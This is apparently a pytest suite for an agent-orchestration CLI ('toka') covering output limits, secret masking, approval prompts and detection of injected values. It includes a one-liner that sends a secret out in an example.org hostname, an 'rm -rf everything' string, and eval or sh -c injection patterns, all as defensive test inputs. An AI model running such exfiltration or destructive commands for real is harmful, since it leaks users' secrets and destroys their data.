"""Values and secrets that do harm, in real runs: nothing is cut unsaid, leaks, crashes, or is run as a program."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from cli.records import Ran, Toka

pytestmark = pytest.mark.skipif(not shutil.which("bwrap"), reason="no bwrap: agents cannot run here")
SECRET = "planted-0123456789abcdef-ABCDEFGH-secret"
"""Of no well-known shape: only who knows it can find it."""
LINES = "first line of a key\nsecond line of a key\nthird line of a key"
NUMBER = "73519428"


class Place:
    """A directory with settings that name secrets, where teams are run."""

    def __init__(self, toka: Toka, folder: Path) -> None:
        self._toka = toka
        self.folder = folder

    def run(self, agents: dict[str, Any], *more: str, code: int = 0) -> Ran:
        team = {"toka": 1, "defaults": {"grants": {"read": ["."], "write": ["out"]}}, "agents": agents}
        (self.folder / "team.yaml").write_text(json.dumps(team))
        done = self._toka("run", "team.yaml", *more)
        assert done.code == code, done.out + done.err
        return done

    def agents(self) -> dict[str, Any]:
        return self._toka("show", "@last", "--json").json["agents"]

    def everything(self) -> bytes:
        """All that is recorded and can be shown."""
        shown = [self._toka(c, "@last", *more).out for c, *more in (
            ("show", "--json"), ("show",), ("logs", "--full"), ("events", "--json"), ("show", "--resources"),
        )]  # fmt: skip
        files = [p.read_bytes() for p in (self.folder.parent / "state").rglob("*") if p.is_file()]
        return b"\n".join([*files, "\n".join(shown).encode()])


@pytest.fixture
def place(toka: Toka, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    folder = tmp_path / "project"
    (folder / "out").mkdir(parents=True)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("TOKA_STATE", str(tmp_path / "state"))
    settings = tmp_path / "config/toka/config.toml"
    settings.parent.mkdir(parents=True)
    names = {"long": "LONG", "lines": "LINES", "num": "NUM", "bytes": "BYTES", "short": "SHORT"}
    settings.write_text("[secrets]\n" + "".join(f'{k} = "${{env:SECRET_{v}}}"\n' for k, v in names.items()))
    settings.chmod(0o600)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    for name, value in (("LONG", SECRET), ("LINES", LINES), ("NUM", NUMBER), ("SHORT", "abc")):
        monkeypatch.setenv(f"SECRET_{name}", value)
    monkeypatch.setenv("SECRET_BYTES", os.fsdecode(b"\xff\xfe1234567-bytes"))
    return Place(toka, folder)


# --- outputs are whole, or fail


def test_an_output_over_its_size_is_no_output(place: Place) -> None:
    big = """python3 -c 'print(("x" * 1400 + chr(10)) * 800)'"""
    done = place.run({"a": {"run": big, "outputs": {"l": {"from": "stdout", "as": "lines"}}},
                      "b": {"needs": ["a"], "for_each": "${a.l}", "run": "true"}}, code=1)  # fmt: skip
    assert "the output l is not whole: 1,120,801 bytes were printed, and only " in done.err
    agents = place.agents()
    assert (agents["a"]["state"], agents["b"]["state"]) == ("FAILED", "SKIPPED")
    assert "b[1]" not in agents


@pytest.mark.parametrize("text", ["1e999", "-1e999", "[1e400]", '{"a": 1e999}'])
def test_a_number_that_is_none_is_no_output(place: Place, text: str) -> None:
    kind = "number" if text[-1] == "9" else "json"
    done = place.run({"a": {"run": ["printf", "%s", text], "outputs": {"n": {"from": "stdout", "as": kind}}}}, code=1)
    assert f"the output n is no {kind}" in done.err


def test_what_is_nested_too_deep_is_no_output(place: Place) -> None:
    deep = 'python3 -c \'print("[" * %d + "]" * %d)\''
    place.run({"a": {"run": deep % (50, 50), "outputs": {"n": {"from": "stdout", "as": "json"}}}})
    for levels in (70, 900):
        done = place.run(
            {"a": {"run": deep % (levels, levels), "outputs": {"n": {"from": "stdout", "as": "json"}}}}, code=1
        )
        assert "the output n is nested deeper than 60 levels" in done.err


@pytest.mark.parametrize("levels", [70, 800, 5000])
def test_a_report_that_is_nested_too_deep_is_told_to_the_model(place: Place, levels: int) -> None:
    deep = '{"status": "succeeded", "summary": "x", "outputs": {"n": ' + "[" * levels + "]" * levels + "}}"
    script = {"script": 1, "default": [
        {"raw_calls": [{"name": "report", "arguments": deep}]},
        {"report": {"status": "succeeded", "summary": "x", "outputs": {"n": [1]}}},
    ]}  # fmt: skip
    (place.folder / "s.json").write_text(json.dumps(script))
    place.run({"a": {"goal": "x", "outputs": {"n": {"from": "report", "as": "json"}}}}, "--model", "scripted:s.json")
    assert place.agents()["a"]["outputs"] == {"n": [1]}


def test_an_input_that_is_nested_too_deep_or_no_text_is_a_finding(toka: Toka, place: Place) -> None:
    (place.folder / "team.yaml").write_text(
        "toka: 1\ninputs: {l: {type: list, default: [a]}, s: x}\nagents: {a: {run: 'echo ${inputs.l} ${inputs.s}'}}\n"
    )
    for given in ("l=" + "[" * 600 + "]" * 600, "s=" + os.fsdecode(b"\xff"), 'l=["\\ud800"]'):
        for command in ("validate", "plan", "run"):
            done = toka(command, "team.yaml", "--input", given)
            assert done.code == 3, (command, done.code, done.err)
            assert "the input " in done.out + done.err


def test_lines_end_where_lines_end_and_nowhere_else(place: Place) -> None:
    odd = "a\u0085b\u2028c\x0bd\x0ce\x1cf\rg"
    (place.folder / "odd").write_text(f"{odd}\n\n  \nlast")
    place.run({"a": {"run": "cat odd", "outputs": {"l": {"from": "stdout", "as": "lines"}}}})
    assert place.agents()["a"]["outputs"] == {"l": [odd, "last"]}


def test_a_path_of_an_output_takes_parts_of_elements_and_inputs_as_texts(place: Place) -> None:
    place.run({"a": {"for_each": [{"p": "out/one"}, {"p": "out/two"}], "run": "echo hi > ${item.p}",
                     "outputs": {"o": {"from": "file", "path": "${item.p}"}}}})  # fmt: skip
    assert [place.agents()[f"a[{n}]"]["outputs"] for n in (1, 2)] == [{"o": "hi"}, {"o": "hi"}]


def test_a_whole_number_with_a_point_is_an_integer(place: Place) -> None:
    script = {"script": 1, "default": [{"report": {"status": "succeeded", "summary": "x", "outputs": {"n": 1.0}}}]}
    (place.folder / "s.json").write_text(json.dumps(script))
    place.run({"a": {"goal": "x", "outputs": {"n": {"from": "report", "as": "integer"}}}}, "--model", "scripted:s.json")
    assert place.agents()["a"]["outputs"] == {"n": 1}


# --- secrets


def test_a_number_that_is_a_secret_does_not_pass_through_json(place: Place) -> None:
    place.run({"a": {"run": """printf '{"pin":%s}' "$N" > out/j""", "env": {"N": "${secret:num}"},
                     "outputs": {"j": {"from": "file", "path": "out/j", "as": "json"}}}}, code=1)  # fmt: skip
    assert NUMBER.encode() not in place.everything()


@pytest.mark.parametrize("dots", [19_960, 19_990, 1_048_540, 1_048_570, 2_000_000])
def test_no_part_of_a_secret_is_left_where_an_output_was_cut(place: Place, dots: int) -> None:
    before = f"""python3 -c 'import os; print("." * {dots} + os.environ["L"], end="")'"""
    after = f"""python3 -c 'import os; print(os.environ["L"] + "." * {dots}, end="")'"""
    place.run(
        {"a": {"run": before, "env": {"L": "${secret:long}"}}, "b": {"run": after, "env": {"L": "${secret:long}"}}}
    )
    everything = place.everything()
    for part in (SECRET, SECRET[:12], SECRET[-12:], SECRET[14:26]):
        assert part.encode() not in everything, part


def test_lines_and_bytes_of_secrets_are_masked_too(place: Place) -> None:
    place.run({
        "a": {"run": 'echo "$M" | sed -n 2p', "env": {"M": "${secret:lines}"}},
        "b": {"run": "printenv B", "env": {"B": "${secret:bytes}"}},
    })  # fmt: skip
    everything = place.everything()
    assert b"second line of a key" not in everything
    assert b"1234567-bytes" not in everything


def test_a_model_brings_no_secret_into_the_record(place: Place) -> None:
    script = {"script": 1, "default": [
        {"say": f"it is {SECRET}", "calls": [{"write_file": {"path": "out/x", "content": SECRET}}]},
        {"report": {"status": "succeeded", "summary": f"token {SECRET}"}},
    ]}  # fmt: skip
    (place.folder.parent / "s.json").write_text(json.dumps(script))
    place.run({"a": {"goal": "x", "env": {"L": "${secret:long}"}}}, "--model", f"scripted:{place.folder.parent}/s.json")
    assert SECRET.encode() not in place.everything()
    assert (place.folder / "out/x").read_text() == "[redacted]"


def test_a_refused_host_brings_no_secret_into_the_record(place: Place) -> None:
    program = 'import os, urllib.request as u; u.urlopen("https://" + os.environ["L"] + ".example.org")'
    reach = f"python3 -c '{program}' || true"
    place.run({"a": {"run": reach, "env": {"L": "${secret:long}"}, "grants": {"network": ["pypi.org"]}}})
    assert SECRET.lower().encode() not in place.everything().lower()


def test_a_secret_that_is_too_short_to_be_masked_is_told(place: Place) -> None:
    done = place.run({"a": {"run": "true", "env": {"S": "${secret:short}", "L": "${secret:long}"}}})
    assert "toka: the secret short has fewer than 6 characters: it is not masked in records" in done.err
    assert "secret long" not in done.err


# --- what a person agrees to


def test_a_person_is_shown_every_value_that_an_approval_is_about(toka: Toka, place: Place) -> None:
    text = "x" * 400 + "\nrm -rf everything"
    (place.folder / "values").write_text(text)
    place.run({
        "a": {"run": "cat values", "outputs": {"cmd": "stdout"}},
        "ship": {"needs": ["a"], "run": "echo ${a.cmd}", "check": "test -n ${a.cmd}", "approve": "Ship it?",
                 "env": {"T": "to ${a.cmd}", "P": "plain"}},
    }, code=7)  # fmt: skip
    (question,) = place.agents()["ship"]["approvals"]
    assert question["shown"]["values"] == {"a.cmd": text}
    assert question["shown"]["variables"]["P"] == "plain"
    shown = toka("show", "@last").out
    assert "rm -rf everything" in shown
    first = question["id"]
    (place.folder / "values").write_text(text + " else")
    place.run({
        "a": {"run": "cat values", "outputs": {"cmd": "stdout"}},
        "ship": {"needs": ["a"], "run": "true", "approve": "Ship it?", "env": {"T": "to ${a.cmd}"}},
    }, code=7)  # fmt: skip
    (question,) = place.agents()["ship"]["approvals"]
    assert question["id"] != first
    assert question["shown"]["values"]["a.cmd"].endswith("everything else")


# --- programs


@pytest.mark.parametrize(
    "command",
    [
        'sh -c "echo ${inputs.v}"', "eval echo ${inputs.v}", 'python3 -c "print(${inputs.v})"', "bash -lc x${inputs.v}",
        'echo "$(case x in x) printf "[%s]" "pre ${inputs.v}";; esac)"',
    ],
)  # fmt: skip
def test_a_value_in_the_text_of_another_program_is_a_finding(toka: Toka, place: Place, command: str) -> None:
    team = {"toka": 1, "inputs": {"v": "x"}, "agents": {"a": {"run": command, "grants": {"read": ["."]}}}}
    (place.folder / "team.yaml").write_text(json.dumps(team))
    done = toka("validate", "team.yaml")
    assert (done.code, "TK2015" in done.out) == (3, True), done.out


def test_what_known_elements_lack_is_found_before_anything_runs(toka: Toka, place: Place) -> None:
    (place.folder / "team.yaml").write_text(
        'toka: 1\ninputs: {l: {type: list, default: \'[{"test": 1}, {"tset": 2}]\'}}\nagents:\n'
        "  a: {for_each: [{test: t1}], run: 'echo ${item.tset}'}\n"
        "  b: {for_each: '${inputs.l}', run: 'echo ${item.test}'}\n"
        "  c: {for_each: [x], run: 'echo ${item.test}'}\n"
    )
    done = toka("validate", "team.yaml")
    assert done.code == 3
    for line in ('element 1 of for_each has no "tset"', 'did you mean "test"?', 'element 2 of for_each has no "test"',
                 "it is no mapping; ${item} is the whole of it"):  # fmt: skip
        assert line in done.out


def test_a_reason_that_is_no_text_is_refused(toka: Toka, place: Place) -> None:
    place.run({"a": {"run": "true", "approve": "Go?"}}, code=7)
    for command in ("approve", "deny", "resume"):
        done = toka(command, "@last", "--reason", os.fsdecode(b"\xff"))
        assert (done.code, "--reason is no text in UTF-8" in done.err) == (2, True), done.err
